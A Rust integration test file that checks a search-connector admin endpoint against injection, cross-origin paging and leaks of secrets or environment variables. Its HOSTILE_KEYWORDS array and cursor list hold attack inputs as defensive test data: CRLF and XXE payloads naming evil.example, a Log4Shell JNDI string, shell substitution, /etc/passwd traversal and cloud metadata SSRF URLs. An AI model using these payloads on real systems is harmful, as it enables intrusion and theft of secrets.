//! Keywords, cursors, mappings and answers that reach for more than a search.

use std::{collections::BTreeSet, fs, path::Path};

use axum::response::IntoResponse;
use serde_json::{Value, json};

use crate::util::{
    app::TestApp,
    caller::Caller,
    eventually,
    external::with,
    own_search::{OwnSearch, ReceivedRequest},
    program::{Server, create_application, create_operator},
};

const TRY: &str = "/admin/v1/sources/try";

const HOSTILE_KEYWORDS: [&str; 14] = [
    "a&limit=1000&q=b",
    "a#b?c=d",
    "a\r\nHost: evil.example\r\n\r\nGET /admin",
    "a\0b",
    "\"}, \"size\": 100000, \"x\": {\"",
    "\\(env) \\($address) \\u0022",
    "\" OR type = page AND \"a\" ~ \"a",
    "\\\" OR text ~ \\\"",
    "{!xmlparser v='<!DOCTYPE a SYSTEM \"http://evil.example/\">'}",
    "_query_:\"{!join from=a to=b}*:*\"",
    "repo:secret/plans org:other",
    "../../../../etc/passwd",
    "http://169.254.169.254/latest/meta-data",
    "${jndi:ldap://evil.example/a} $(id) `id` %00 %0d%0a \u{202e}",
];

/// The parts of a request that no keyword may change.
fn shape(request: &ReceivedRequest) -> (String, Vec<String>, BTreeSet<String>, Value) {
    let query = request.uri.query().unwrap_or_default();
    let names = url::form_urlencoded::parse(query.as_bytes()).map(|(name, _)| name.into_owned());
    let headers = request.headers.keys().map(ToString::to_string);
    let headers = headers.filter(|name| name != "content-length").collect();
    let body = serde_json::from_slice(&request.body).unwrap_or(Value::Null);
    (request.uri.path().to_owned(), names.collect(), headers, without_texts(body))
}

/// Values without their texts, as the keyword is one.
fn without_texts(value: Value) -> Value {
    match value {
        Value::String(_) => Value::from(""),
        Value::Array(values) => values.into_iter().map(without_texts).collect(),
        Value::Object(fields) => {
            Value::Object(fields.into_iter().map(|(name, value)| (name, without_texts(value))).collect())
        }
        other => other,
    }
}

async fn try_keyword(operator: &Caller, source: &Value, keyword: &str) -> Value {
    operator.post(TRY, &json!({"source": source, "keyword": keyword})).await.ok().data().clone()
}

#[tokio::test]
async fn keyword_changes_nothing_but_its_own_values() {
    let (_app, operator) = TestApp::start_operated().await;
    let system = OwnSearch::always("{}").await;
    for entry in operator.get("/admin/v1/gallery").await.ok().items() {
        let source = with(system.registration("tried", &entry["mapping"]), "method", entry["method"].clone());
        try_keyword(&operator, &source, "harbour").await;
        let expected = shape(system.received().last().unwrap());
        for keyword in HOSTILE_KEYWORDS {
            let before = system.received().len();
            try_keyword(&operator, &source, keyword).await;
            let received = system.received();
            assert_eq!(received.len(), before + 1, "{}: {keyword:?}", entry["id"]);
            assert_eq!(shape(received.last().unwrap()), expected, "{}: {keyword:?}", entry["id"]);
        }
    }
}

#[tokio::test]
async fn quoted_keyword_stays_within_its_quotes() {
    let (_app, operator) = TestApp::start_operated().await;
    let system = OwnSearch::always("{}").await;
    let gallery = operator.get("/admin/v1/gallery").await.ok();
    for (id, parameter, start, end) in [
        ("confluence", "cql", "siteSearch ~ \"", "\" order by lastmodified desc"),
        ("jira", "jql", "text ~ \"", "\" order by updated desc"),
        ("jira-data-center", "jql", "text ~ \"", "\" order by updated desc"),
    ] {
        let entry = gallery.items().iter().find(|entry| entry["id"] == id).unwrap();
        let source = system.registration("tried", &entry["mapping"]);
        for keyword in HOSTILE_KEYWORDS {
            try_keyword(&operator, &source, keyword).await;
            let query = system.received().last().unwrap().parameter(parameter);
            let inner = query.strip_prefix(start).and_then(|rest| rest.strip_suffix(end)).unwrap();
            let mut escaped = false;
            for character in inner.chars() {
                assert!(escaped || character != '"', "{id}: {query}");
                escaped = !escaped && character == '\\';
            }
            assert!(!escaped, "{id}: {query}");
        }
    }
    let github = gallery.items().iter().find(|entry| entry["id"] == "github").unwrap();
    let source = system.registration("tried", &github["mapping"]);
    try_keyword(&operator, &source, "repo:secret/plans org:other").await;
    assert!(!system.received().last().unwrap().parameter("q").contains(':'));
}

#[tokio::test]
async fn next_page_is_on_the_origin_of_its_source() {
    let (_app, operator) = TestApp::start_operated().await;
    let other = OwnSearch::always("{}").await;
    let elsewhere = other.base.clone();
    let system = OwnSearch::start(move |request| {
        let next = if request.parameter("q") == "body" { elsewhere.as_str() } else { "" };
        let link = if request.parameter("q") == "header" {
            format!("<{elsewhere}>; rel=next")
        } else {
            String::new()
        };
        ([("link", link)], json!({"rows": [], "next": next}).to_string()).into_response()
    })
    .await;
    let mapping = json!({
        "request": {"query": "{ q: $keyword }"}, "paging": "link",
        "answer": {"rows": ".rows[]", "id": ".id", "displayTime": "0", "next": ".next | select(. != \"\")"},
    });
    let source = system.registration("tried", &mapping);
    for keyword in ["body", "header"] {
        let trial = try_keyword(&operator, &source, keyword).await;
        // It is followed at the registered origin.
        assert!(trial["failure"].is_null() && trial["cursor"] == "/", "{trial}");
    }
    for cursor in
        [other.base.as_str(), "//169.254.169.254/", "http://[::1]:22/", "file:///etc/passwd", "javascript:1"]
    {
        let body = json!({"source": source, "keyword": "a", "cursor": cursor});
        let trial = operator.post(TRY, &body).await.ok();
        let failure = trial.data()["failure"].as_str().unwrap_or_default();
        assert!(failure.contains("leads to another origin"), "{cursor}: {}", trial.text);
    }
    assert!(other.received().is_empty());
}

#[tokio::test]
async fn credentials_and_environment_are_out_of_reach_of_filters() {
    let (_app, operator) = TestApp::start_operated().await;
    let system = OwnSearch::always("{}").await;
    let mapping = |query: &str| {
        json!({
            "request": {"query": query}, "answer": {"rows": "empty", "id": ".id", "displayTime": "0"},
        })
    };
    let bearer = json!({"type": "BEARER", "token": "hush-hush-hush"});
    for query in ["{ e: (env | tojson) }", "{ e: ($ENV | tojson) }", "{ e: $headers, a: $answer }"] {
        let source = with(system.registration("tried", &mapping(query)), "auth", bearer.clone());
        let answer = operator.post(TRY, &json!({"source": source, "keyword": "a"})).await;
        assert!(!answer.text.contains("hush") && !answer.text.contains("PATH"), "{query}: {}", answer.text);
    }
    // The allocator's setting alone.
    let own = r#"{"MIMALLOC_ARENA_RESERVE":"32768"}"#;
    for received in system.received() {
        assert!(["", own].contains(&received.parameter("e").as_str()), "{:?}", received.uri);
    }
    for parameter in ["a=b", "a&b", "keyword", "a b", ""] {
        let key = json!({"type": "API_KEY", "parameter": parameter, "header": null, "key": "hush-hush-hush"});
        let source = with(system.registration("tried", &mapping("{}")), "auth", key);
        let answer = operator.post(TRY, &json!({"source": source, "keyword": "a"})).await;
        // An empty parameter is none: the key goes into its usual header.
        assert_eq!(
            answer.status,
            if parameter.is_empty() { 200 } else { 400 },
            "{parameter}: {}",
            answer.text
        );
    }
}

async fn start_server(data: &Path) -> (Server, Caller) {
    let settings = "[connectors]\nallow_http_hosts = [\"127.0.0.1\"]\nallow_auth_none = true\n";
    fs::write(data.join("trawl.toml"), settings).unwrap();
    let server = Server::start(data).await;
    let operator = server.caller(&create_operator(data, "acme").await).await;
    (server, operator)
}

#[tokio::test]
async fn process_of_filters_ends_after_an_answer_of_more_than_one_mebibyte() {
    let directory = tempfile::tempdir().unwrap();
    let (server, operator) = start_server(directory.path()).await;
    let operator = operator.on("acme");
    // The outcome of the filters is small.
    let system = OwnSearch::start(|request| {
        let bytes = request.parameter("q").parse().unwrap_or_default();
        json!({"rows": [], "more": "x".repeat(bytes)}).to_string().into_response()
    })
    .await;
    let answer = json!({"rows": ".rows[]", "id": ".id", "displayTime": "0"});
    let mapping = json!({"request": {"query": "{ q: $keyword }"}, "answer": answer});
    let source = system.registration("tried", &mapping);
    let processes = || server.processes_of("interpret-mappings");
    for _ in 0..2 {
        try_keyword(&operator, &source, "1000000").await;
        assert_eq!(processes(), 1);
        try_keyword(&operator, &source, "1050000").await;
        eventually("the end of the process", async || (processes() == 0).then_some(())).await;
    }
}

#[tokio::test]
async fn process_of_filters_works_for_one_tenant() {
    let directory = tempfile::tempdir().unwrap();
    let (server, operator) = start_server(directory.path()).await;
    create_application(directory.path(), "umbrella").await;
    let system = OwnSearch::always("{\"rows\": []}").await;
    let mapping = json!({"request": {}, "answer": {"rows": ".rows[]", "id": ".id", "displayTime": "0"}});
    let source = system.registration("tried", &mapping);
    for (tenant, processes) in [("acme", 1), ("acme", 1), ("umbrella", 2), ("acme", 2)] {
        try_keyword(&operator.on(tenant), &source, "harbour").await;
        assert_eq!(server.processes_of("interpret-mappings"), processes, "{tenant}");
    }
}
